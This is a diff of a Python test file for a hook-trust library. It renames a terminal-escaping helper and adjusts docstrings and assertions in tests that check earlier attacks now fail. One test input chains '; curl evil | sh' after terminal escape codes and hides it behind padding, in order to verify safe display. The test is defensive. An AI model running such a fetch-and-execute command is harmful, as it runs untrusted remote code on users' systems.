@@ -1,4 +1,4 @@
-"""What a reviewer who meant harm found: each attack, and that it fails now (issue 5, parts 3 and 4; ruling 21)."""
+"""What a reviewer who meant harm found: each attack, and that it fails now (D-21)."""
 
 from __future__ import annotations
 
@@ -23,7 +23,7 @@ from llxprt_hooks.settings import (
     settings_file,
 )
 from llxprt_hooks.settings.extensions import place_path
-from llxprt_hooks.text import printable
+from llxprt_hooks.text import escape_for_terminal
 from llxprt_hooks.trust import scripts
 from llxprt_hooks.trust.load import load_settings
 from llxprt_hooks.trust.scripts import project_scripts
@@ -324,7 +324,7 @@ class TestShowing:
     def test_all_of_a_command_can_be_shown(self) -> None:
         command = f"true{HOSTILE}; curl evil | sh" + " " * 500 + "# é"
 
-        shown = printable(command)
+        shown = escape_for_terminal(command)
 
         assert shown.isprintable()
         assert shown.startswith(r"true\x1b[2J")
@@ -339,7 +339,7 @@ def environment(value: object) -> dict[str, Any]:
 
 
 class TestEnvironment:
-    """Issue 5, part 4: which variables hooks inherit."""
+    """Which variables hooks inherit (HOOK-188)."""
 
     @pytest.mark.parametrize(
         ("value", "inherited"),
@@ -362,7 +362,6 @@ class TestEnvironment:
 
         assert loaded.environment.restricted(ENVIRON).keys() == inherited
         assert loaded.problems == ()
-        assert loaded.hooks_config == {}
 
     def test_without_a_word_about_it_all_is_inherited(self, project: Path) -> None:
         restricted = load_settings(project).environment.restricted(ENVIRON)
